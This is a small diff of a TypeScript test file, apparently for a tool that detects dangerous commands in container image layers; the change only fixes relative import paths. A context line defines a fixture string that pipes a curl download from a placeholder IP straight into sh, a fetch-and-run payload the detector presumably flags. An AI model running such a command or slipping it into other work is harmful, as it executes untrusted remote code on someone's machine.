@@ -2,8 +2,8 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { image, layer } from '../../test/detection/image-case.ts';
-import { findingsWithCache } from '../../testkit/findings-with-cache.ts';
+import { image, layer } from '../../../test/detection/image-case.ts';
+import { findingsWithCache } from '../../../testkit/findings-with-cache.ts';
 
 const FETCHES = 'curl -s http://198.51.100.7/x | sh\n';
 
